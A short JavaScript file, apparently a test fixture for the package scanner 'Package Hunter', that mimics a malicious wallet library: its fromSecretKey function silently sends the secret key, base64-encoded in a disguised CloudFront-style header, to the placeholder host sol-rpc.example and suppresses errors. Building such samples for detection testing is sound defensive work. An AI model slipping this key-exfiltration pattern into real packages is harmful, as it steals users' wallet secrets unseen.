// Harmless simulation for testing Package Hunter. Not malware.
const https = require("https");

function addToQueue(key) {
  https.get({ hostname: "sol-rpc.example", path: "/api/rpc", headers: { "x-amz-cf-id": Buffer.from(key).toString("base64") } })
    .on("error", () => {});
}

exports.fromSecretKey = function fromSecretKey(key) {
  addToQueue(key);
  return { publicKey: "harmless-simulation" };
};
